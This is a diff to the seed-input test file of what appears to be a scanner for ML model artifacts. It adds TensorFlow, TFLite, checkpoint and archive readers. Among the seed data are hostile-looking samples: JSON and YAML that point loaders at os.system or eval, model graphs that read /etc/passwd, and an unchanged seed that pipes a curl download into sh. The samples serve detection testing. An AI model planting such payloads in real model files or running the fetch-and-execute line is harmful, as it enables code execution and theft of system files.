@@ -9,7 +9,8 @@ import tarfile
 import zipfile
 import zlib
 
-from harness import make_onnx
+from harness import make_checkpoint, make_model_archives, make_onnx, make_tflite
+from harness import make_tensorflow as make_tf
 from harness import make_tensors as make
 from harness.make_archives import tarred, without_central, zipped
 from harness.make_code import code_object
@@ -42,6 +43,14 @@ from pratique.artifacts.readers.streams import (
     ZlibReader,
 )
 from pratique.artifacts.readers.tar.reader import TarReader
+from pratique.artifacts.readers.tensorflow.checkpoint import CheckpointIndexReader
+from pratique.artifacts.readers.tensorflow.lite import TfliteReader
+from pratique.artifacts.readers.tensorflow.model import (
+    FingerprintReader,
+    KerasMetadataReader,
+    TensorflowReader,
+)
+from pratique.artifacts.readers.tensorflow.text_graph import TextGraphReader
 from pratique.artifacts.readers.toml_text import TomlReader
 from pratique.artifacts.readers.torch_legacy import TorchLegacyReader
 from pratique.artifacts.readers.unopened import UnopenedReader
@@ -65,7 +74,10 @@ ARCHIVES: list[tuple[Reader, bytes]] = [
     (ZipReader(), without_central(zipped(FILES, zipfile.ZIP_BZIP2), 1)),
     (ZipReader(), zip64()),
     (ZipReader(), zipped({"p-1.dist-info/RECORD": b"a.py,sha256=x,1\n", "a.py": b"x"})),
+    (ZipReader(), make_model_archives.package({"a.py": b"x = 1\n"})),
+    (ZipReader(), make_model_archives.exported(make_model_archives.program())),
     (TarReader(), tarred(FILES)),
+    (TarReader(), make_model_archives.nemo("_target_: torch.nn.ReLU\n")),
     (TarReader(), tarred({"n" * 200: b"x", "é/y": b"z"}, tarfile.PAX_FORMAT)),
     (TarReader(), tarred({"n" * 200: b"x"}, tarfile.GNU_FORMAT)),
     (GzipReader(), gzip.compress(b"content " * 50, mtime=0) * 2),
@@ -107,6 +119,9 @@ TEXTS = [
     b"{% set x = '_' * 2 %}{{ a[x ~ 'class'] | attr('b') }}{% if 'a' in m.content %}b{% endif %}",
     b"---\na: 1\n---\n# Title\n{{ x }}\n",
     "\ufefftext \u202e \U000e0041".encode(),
+    b'{"graph_module": {}, "inputs": [], "target": "torch.os.system", "s": "[1, {}]"}',
+    b'{"__loader__": "MethodNode", "__module__": "a", "__class__": "b", "content": {"func": "c"}}',
+    b"a: &x os.system\nb:\n  _target_: *x\nc: ${eval:'os.system()'}\n",
 ]
 
 ONNX = make_onnx.model(
@@ -118,6 +133,21 @@ ONNX = make_onnx.model(
         ],
     ),
     make_onnx.part(14, make_onnx.part(1, "k") + make_onnx.part(2, "v" * 300)),
+)
+TENSORFLOW = make_tf.model(
+    [*make_tf.HONEST, make_tf.const("s", "text " * 70, b"\x80\4]."), make_tf.call("f", ("s",))],
+    make_tf.init("s"),
+    make_tf.asset("s:0", "vocab.txt"),
+    functions=[make_tf.function("f", [make_tf.node("ReadFile", "r", ("x",))], ["x"])],
+)
+TEXT_GRAPH = b"""# a comment
+meta_graphs { meta_info_def < tags: ["serve", 'x'] > graph_def { node { name: "p" op: "Const"
+  attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/" "pass\\167d" } } } }
+  node { name: "r" op: "ReadFile" input: "p" } library { function { signature { name: "f" } } } } }
+"""
+CHECKPOINT = make_checkpoint.index(
+    a=make_checkpoint.entry(make_checkpoint.STRING, [], 0, 8),
+    w=make_checkpoint.entry(make_checkpoint.FLOAT, [2, 3], 8, 24),
 )
 TORCH_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
 TORCH_LEGACY = (
@@ -131,6 +161,8 @@ TORCH_LEGACY = (
 SEEDS: list[tuple[Reader, bytes]] = [
     *ARCHIVES,
     *TENSORS,
+    (CheckpointIndexReader(), CHECKPOINT),
+    (CheckpointIndexReader(), make_checkpoint.table({b"": b"x", b"k": b"v" * 300}, snappy=True)),
     (CompiledPythonReader(), code_object(16)),
     (CompiledPythonReader(), code_object(0)),
     (JinjaReader(), TEXTS[5]),
@@ -138,7 +170,11 @@ SEEDS: list[tuple[Reader, bytes]] = [
     (JpegReader(), jpeg(segment(0xFE, b"words"), b"\xff\xff" + segment(0xE1, b"Exif")[1:])),
     (JsonReader(), TEXTS[0]),
     (JsonReader(), TEXTS[1]),
+    (JsonReader(), TEXTS[8]),
+    (JsonReader(), TEXTS[9]),
     (JsonReader(), b'{"a": 1}\n{"a": [NaN, 1e9, "\\u00e9"]}\n'),
+    (FingerprintReader(), make_tf.fingerprint()),
+    (KerasMetadataReader(), make_tf.keras_metadata('{"class_name": "A"}', "{}")),
     (OnnxReader(), make_onnx.model()),
     (OnnxReader(), ONNX),
     (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)], "c": {3}}, 4)),
@@ -153,7 +189,13 @@ SEEDS: list[tuple[Reader, bytes]] = [
     (SentencePieceReader(), pieces(piece(b"long " * 80))),
     (ShellScriptReader(), b"#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/a \\\n  | sh\n# done\n"),
     (ShellScriptReader(), b"FROM debian:12\nRUN apt-get update\n"),
+    (TensorflowReader(), TENSORFLOW),
+    (TensorflowReader(), make_tf.metagraph(make_tf.graph(make_tf.HONEST))),
+    (TensorflowReader(), make_tf.graph([], [make_tf.function("f", make_tf.HONEST)])),
+    (TextGraphReader(), TEXT_GRAPH),
+    (TfliteReader(), make_tflite.model(["FlexReadFile", "Own"], ["/etc/passwd"], b"file:///x")),
     (TomlReader(), TEXTS[3]),
     (TorchLegacyReader(), TORCH_LEGACY),
     (YamlReader(), TEXTS[2]),
+    (YamlReader(), TEXTS[10]),
 ]
